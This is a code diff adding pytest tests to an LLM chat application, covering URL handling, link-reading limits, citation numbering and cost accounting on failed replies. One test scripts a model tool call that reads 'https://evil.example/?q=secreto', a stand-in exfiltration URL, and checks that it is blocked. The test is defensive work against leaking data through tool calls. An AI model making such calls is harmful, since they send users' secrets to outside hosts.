@@ -26,7 +26,7 @@ from kipux.application.ports.llm_gateway import (
     ToolSpec,
 )
 from kipux.application.use_cases.send_message import Sent
-from kipux.domain.errors import ContextTooLong, RequestRefused, StreamCut
+from kipux.domain.errors import ContextTooLong, RateLimited, RequestRefused, StreamCut
 from kipux.domain.events import SourcesFound, ToolProgress
 from kipux.domain.message import Message, MessageStatus, Source, Usage
 from kipux.domain.model import Model, ModelList
@@ -243,6 +243,81 @@ async def test_where_nothing_can_be_looked_up_the_window_is_all_for_the_conversa
     sent = await house.ask(text, sent.conversation.user_id, conversation_id=sent.conversation.id)
     await house.done(sent)
     assert [roles(request) for request in house.gateway.requests] == [["user"], ["user", "assistant", "user"]]
+
+
+@pytest.mark.parametrize(
+    "address", ["http://[server]/#/login", "http://[foo#bar", "http://exa℀mple.com/#x", "http://[x]:9y/"]
+)
+async def test_an_address_that_is_none_does_not_break_the_reply(address: str) -> None:
+    house = a_house(in_turn(whole_answer("Así no.")))
+    reply = await reply_of(house, await house.ask(f"¿Cómo entro en {address} ?"))
+    assert (reply.text, reply.status) == ("Así no.", MessageStatus.COMPLETE)
+
+
+async def test_all_links_of_the_question_may_be_opened_though_three_are_read_at_once() -> None:
+    read = Lookup("read_page")
+    links = [f"https://{letter}.example" for letter in "abcd"]
+    last = calling(a_call(name="read_page", arguments=json.dumps({"url": links[3]})))
+    house = a_house(in_turn(last, whole_answer("Listo.")), Lookup(), read)
+    await house.done(await house.ask("Compara " + " ".join(links)))
+    assert [asked["url"] for asked in read.asked] == links
+
+
+async def test_what_strangers_said_in_a_reply_before_opens_no_way_either() -> None:
+    opened: list[bool] = []
+
+    class Peeking(Lookup):
+        async def __call__(self, arguments: Mapping[str, object], errand: Errand) -> str:
+            opened.append(errand.sources.may_open(str(arguments["url"])))
+            return await super().__call__(arguments, errand)
+
+    def reading(url: str) -> tuple[ChatEvent, ...]:
+        return calling(a_call(name="read_page", arguments=json.dumps({"url": url})))
+
+    found = "https://a.example/web_search/quipu"
+    script = in_turn(
+        calling(a_call()),
+        whole_answer("Según [1]."),
+        reading("https://evil.example/?q=secreto"),
+        reading("https://mine.example"),
+        reading(found),
+        whole_answer("Como dije [1]."),
+    )
+    house = a_house(script, Lookup(), Peeking("read_page"))
+    sent = await house.ask("Busca, no abras https://mine.example", web=WebUse.AUTO)
+    opened.clear()
+    await house.done(sent)
+    again = await house.ask("¿Y?", sent.conversation.user_id, conversation_id=sent.conversation.id)
+    await house.done(again)
+    assert opened[-3:] == [False, True, True]
+
+
+async def test_a_number_of_a_reply_before_is_none_of_this_one() -> None:
+    house = a_house(in_turn(calling(a_call()), whole_answer("Sí [1]."), whole_answer("Como dije [1].")))
+    sent = await house.ask("¿Qué?")
+    assert (await reply_of(house, sent)).text == "Sí [1]."
+    again = await house.ask("¿Y?", sent.conversation.user_id, conversation_id=sent.conversation.id)
+    assert (await reply_of(house, again)).text == "Como dije."
+
+
+@pytest.mark.parametrize(
+    ("then", "cost"),
+    [
+        ((RateLimited(),), "0.05"),
+        ((ChatText("Empiezo"), StreamCut()), None),  # what it had cost until then nobody tells
+        ((ChatEnd("content_filter", "m", Usage(), Decimal("0.01")),), "0.06"),
+    ],
+)
+async def test_what_the_rounds_of_a_reply_have_cost_is_counted_though_it_fails(
+    then: tuple[Played, ...], cost: str | None
+) -> None:
+    house = a_house(in_turn(calling(a_call(), cost="0.05"), then))
+    sent = await house.ask("¿Qué?")
+    reply = await reply_of(house, sent)
+    assert (reply.status, reply.cost) == (MessageStatus.FAILED, None if cost is None else Decimal(cost))
+    async with house.begin() as work:
+        spent = await work.spending.of_conversation(sent.conversation.id, sent.conversation.user_id)
+    assert (spent.known, spent.unknown_replies) == (Decimal(cost or 0), 0 if cost else 1)
 
 
 async def test_never_is_never_also_when_it_is_written_anew() -> None:
